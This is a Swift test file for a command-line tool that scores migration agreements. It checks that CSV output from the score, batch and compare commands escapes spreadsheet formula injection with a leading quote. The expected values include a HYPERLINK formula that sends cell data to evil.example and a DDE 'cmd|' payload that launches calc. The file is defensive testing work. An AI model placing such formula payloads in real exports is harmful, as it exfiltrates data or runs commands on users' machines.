import AccordTestSupport
import Foundation
import Testing

/// CSV written by score, batch and compare never holds a cell a spreadsheet would run as a formula.
@Suite("CSV injection")
struct CSVInjectionTests {
    static let hostile = "Tests/Fixtures/hostile/formulas.yaml"
    static let title = #""'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")""#

    @Test("score and batch summaries: a formula title gets a leading quote, scores stay numbers")
    func summaries() throws {
        let expected =
            "hostile-formulas,\(Self.title),GBR:destination;KEN:origin,bilateral,draft,,en,who-code-2010,1.1.0,"
            + "0.0,F,26,1,0.0,0.0,0.0,0.0,0.0,0.0,0.0,50.0,0.0\r\n"
        let score = try AccordProcess.run(["score", Self.hostile, "--format", "csv"])
        #expect(score.status == 0)
        #expect(score.standardOutput.hasSuffix("\r\n" + expected))
        let batch = try AccordProcess.run(["batch", Self.hostile, "--format", "csv"])
        #expect(batch.status == 0)
        #expect(batch.standardOutput.hasSuffix("\r\n" + expected))
    }

    @Test("score gaps and compare: formula clause ids get a leading quote")
    func clauses() throws {
        let gaps = try AccordProcess.run(["score", Self.hostile, "--format", "csv", "--detail", "gaps"])
        #expect(gaps.status == 0)
        #expect(
            gaps.standardOutput.contains(
                "\r\nhostile-formulas,contrary,critical,ethical-recruitment,fees-charged-to-workers,'-2+3+cmd|' /C calc'!A0,18,4.2,"
            ))
        let compare = try AccordProcess.run([
            "compare", Self.hostile, "agreements/drafts/weak-draft-bilateral-2026.yaml", "--format", "csv",
        ])
        #expect(compare.status == 0)
        #expect(
            compare.standardOutput.contains(
                "\r\nhostile-formulas,monitoring-review,50.0,joint-monitoring-body,binding,binding,'=1+1\r\n"))
    }
}
